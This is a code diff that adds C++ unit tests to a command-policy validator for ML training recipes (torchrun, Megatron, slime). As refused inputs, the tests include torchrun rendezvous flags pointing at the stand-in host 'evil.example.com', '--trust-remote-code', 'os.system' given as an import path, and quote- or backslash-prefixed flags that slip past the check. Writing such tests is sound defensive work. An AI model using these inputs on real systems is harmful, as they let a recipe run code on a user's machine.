@@ -104,6 +104,64 @@ TEST(CommandPolicy, the_script_is_an_entry_script_of_the_framework_through_its_c
             "cmd: the policy has no entry scripts for framework 'unknown-framework'");
 }
 
+// Found by the review of issue 24: torchrun's c10d rendezvous unpickles the state it reads from the store at
+// --rdzv-endpoint, so a recipe naming a store ran code on the user's machine.
+TEST(CommandPolicy, torchruns_rendezvous_and_output_flags_are_refused_and_each_flag_given_once) {
+  for (const char* flag : {"--rdzv-backend c10d", "--rdzv-endpoint evil.example.com:29400", "--rdzv-conf is_host=0",
+                           "--master-addr evil.example.com", "--local-addr x", "--log-dir /tmp/x", "--tee 3"}) {
+    const std::string name = std::string(flag).substr(0, std::string(flag).find(' '));
+    EXPECT_EQ(first_problem(std::string("torchrun --nproc-per-node 1 ") + flag + " $MEGATRON_LM/pretrain_gpt.py"),
+              "cmd, line 1, column 29: torchrun '" + name + "' is not one of the flags a recipe may give it")
+        << flag;
+  }
+  EXPECT_EQ(first_problem("torchrun --nproc-per-node 1 --nproc_per_node 8 $MEGATRON_LM/pretrain_gpt.py"),
+            "cmd, line 1, column 29: torchrun '--nproc_per_node' is given twice");
+  EXPECT_EQ(first_problem("torchrun --nproc-per-node $N $MEGATRON_LM/pretrain_gpt.py"),
+            "cmd, line 1, column 27: torchrun --nproc-per-node takes a whole number, and is given '$N'");
+  EXPECT_EQ(first_problem("torchrun --nproc-per-node=gpu $MEGATRON_LM/pretrain_gpt.py"),
+            "cmd, line 1, column 10: torchrun --nproc-per-node takes a whole number, and is given 'gpu'");
+  EXPECT_TRUE(check("torchrun --nproc-per-node=8 --nnodes 2 --master-port 29500 $MEGATRON_LM/pretrain_gpt.py").shape);
+}
+
+TEST(CommandPolicy, script_arguments_that_run_code_or_read_a_file_the_recipe_names_are_refused) {
+  const std::string base = "torchrun --nproc-per-node 1 $MEGATRON_LM/pretrain_gpt.py ";
+  EXPECT_NE(first_problem(base + "--trust-remote-code").find("--trust-remote-code is refused: it runs or imports code"),
+            std::string::npos);
+  EXPECT_NE(first_problem(base + "--spec evil.module spec").find("--spec is refused"), std::string::npos);
+  // A quote or backslash in front changes nothing: argparse sees --trust-remote-code.
+  EXPECT_NE(first_problem(base + "''--trust-remote-code").find("--trust-remote-code is refused"), std::string::npos);
+  EXPECT_NE(first_problem(base + "\\--trust-remote-code").find("--trust-remote-code is refused"), std::string::npos);
+  // Files the run reads (and may unpickle) come through the user's variables, never as a path the recipe names.
+  EXPECT_NE(first_problem(base + "--load registry/recipes/x/evidence")
+                .find("--load 'registry/recipes/x/evidence': a file the run reads named by the recipe"),
+            std::string::npos);
+  EXPECT_NE(first_problem(base + "--load=/tmp/ckpt").find("--load '/tmp/ckpt': a file the run reads"),
+            std::string::npos);
+  EXPECT_TRUE(check(base + "--load $TORCH_DIST --data-path 0.7 $SFT_DATA 0.3 ${SFT_DATA}_b --save=$OUT").shape);
+  // A variable glued to a flag's name: which flag argparse sees depends on it.
+  EXPECT_NE(first_problem(base + "--lr$X 1e-5").find("'--lr$X': a variable inside a flag's name"), std::string::npos);
+}
+
+TEST(CommandPolicy, import_paths_name_only_the_plugin_the_framework_or_the_recipes_patches) {
+  const std::string base = "python3 <slime entry module> ";
+  auto ok = [&](const std::string& args, const std::vector<std::string>& patches = {}) {
+    return CommandPolicy::bundled().check(layout::split_command(base + args, "t"), "slime", "cmd", patches).shape;
+  };
+  EXPECT_TRUE(ok("--rollout-function-path pretokenized_sft_rollout.generate_rollout"));
+  EXPECT_TRUE(ok("--data-source-path slime.rollout.data_source.RolloutDataSourceWithBuffer"));
+  EXPECT_FALSE(ok("--rollout-function-path os.system"));
+  EXPECT_FALSE(ok("--custom-rm-path $PLUGIN.reward"));
+  EXPECT_FALSE(ok("--custom-loss-function-path myplugin.loss"));
+  EXPECT_TRUE(ok("--custom-loss-function-path myplugin.loss", {"myplugin"}));  // a pinned patch's module
+  auto c = CommandPolicy::bundled().check(layout::split_command(base + "--rollout-function-path os.system", "t"),
+                                          "slime", "cmd");
+  EXPECT_EQ(c.problems.front().rule, "command.argument");
+  EXPECT_NE(c.problems.front().message.find("--rollout-function-path 'os.system' is not an import path in "
+                                            "pretokenized_sft_rollout, slime, miles"),
+            std::string::npos)
+      << c.problems.front().message;
+}
+
 TEST(CommandPolicy, a_policy_file_is_validated) {
   auto bad = [](const std::string& text) {
     try {
